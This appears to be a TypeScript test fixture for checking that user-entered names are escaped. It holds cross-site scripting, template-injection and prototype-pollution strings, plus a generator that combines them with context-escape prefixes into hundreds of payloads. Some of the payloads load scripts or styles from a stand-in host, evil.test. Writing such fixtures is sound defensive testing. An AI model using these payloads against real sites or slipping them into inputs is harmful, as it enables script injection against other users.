/** What somebody might type as a name to make another person's browser run it. Each would set `hit` if it ever ran. */
export const nastyTexts: readonly string[] = [
  '<script>hit=1</script>',
  '<img src=x onerror=hit=1>',
  '"><svg onload=hit=1>',
  "'><iframe srcdoc=<script>parent.hit=1</script>>",
  '</title><script>hit=1</script>',
  '</style><img src=x onerror=hit=1>',
  '<a href=javascript:hit=1>press</a>',
  'javascript:hit=1',
  '<body onload=hit=1>',
  '<details open ontoggle=hit=1>',
  '<video><source onerror=hit=1>',
  '<math><mtext><script>hit=1</script>',
  '<input autofocus onfocus=hit=1>',
  '<object data=data:text/html,x>',
  '<embed src=data:text/html,x>',
  '<form><button formaction=javascript:hit=1>',
  '<style>@import "//evil.test"</style>',
  '<link rel=stylesheet href=//evil.test>',
  '<base href=//evil.test>',
  '<meta http-equiv=refresh content=0>',
  '{{constructor.constructor("hit=1")()}}',
  '{{7*7}} {name} {{name}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: somebody may type it
  '${hit=1}',
  '$t(app:tagline)',
  '%3Cscript%3Ehit=1%3C/script%3E',
  '&lt;script&gt;hit=1&lt;/script&gt;',
  '<svg><animate onbegin=hit=1>',
  '<marquee onstart=hit=1>',
  "';hit=1;//",
  '__proto__',
];

/**
 * The same in bulk: every way out of the place where a text stands, with every way to run something from there.
 * More than five hundred.
 */
export const nastyPayloads = (): string[] =>
  exits.flatMap((exit) => payloads.map((payload) => `${exit}${payload}`));

/** Texts no longer than a field takes, which together hold all of these. */
export const packed = (texts: readonly string[], longest: number): string[] => {
  const lines: string[] = [];
  for (const text of texts) {
    const last = lines.at(-1);
    if (last !== undefined && last.length + 1 + text.length <= longest)
      lines.splice(-1, 1, `${last} ${text}`);
    else lines.push(text);
  }
  return lines;
};

// biome-ignore format: a list of attempts
const exits = [
  '', '">', "'>", '`>', '</title>', '</textarea>', '</script>', '</style>', '</template>', '</select>', '-->', '<!--', ']]>', '<<', '</a>', '" x="', "';//", '\\u003c', '&#60;', '{{',
];

const payloads = [
  '<script>alert(1)</script>',
  '<script src=//evil.test>',
  '<img src=x onerror=confirm(1)>',
  '<image href=x onerror=hit=1>',
  '<svg onload=hit=1>',
  '<svg/onload=eval(`hit=1`)>',
  '<svg><use href=//evil.test>',
  '<iframe src=javascript:hit=1>',
  '<iframe srcdoc=x onload=hit=1>',
  '<body onload=hit=1>',
  '<details open ontoggle=hit=1>',
  '<video src=x onerror=hit=1>',
  '<audio src=x onerror=prompt(1)>',
  '<input autofocus onfocus=hit=1>',
  '<object data=javascript:hit=1>',
  '<embed src=javascript:hit=1>',
  '<a href=javascript:alert(1)>x</a>',
  '<form action=javascript:hit=1>',
  '<button formaction=javascript:hit=1>',
  '<math href=javascript:hit=1>',
  '<marquee onstart=hit=1>',
  '<style onload=hit=1>',
  '<base href=//evil.test>',
  '<meta http-equiv=refresh content=0>',
  '<i onclick=hit=1 tabindex=1>',
  'javascript:eval("hit=1")',
  'onmouseover=Function("hit=1")()',
];
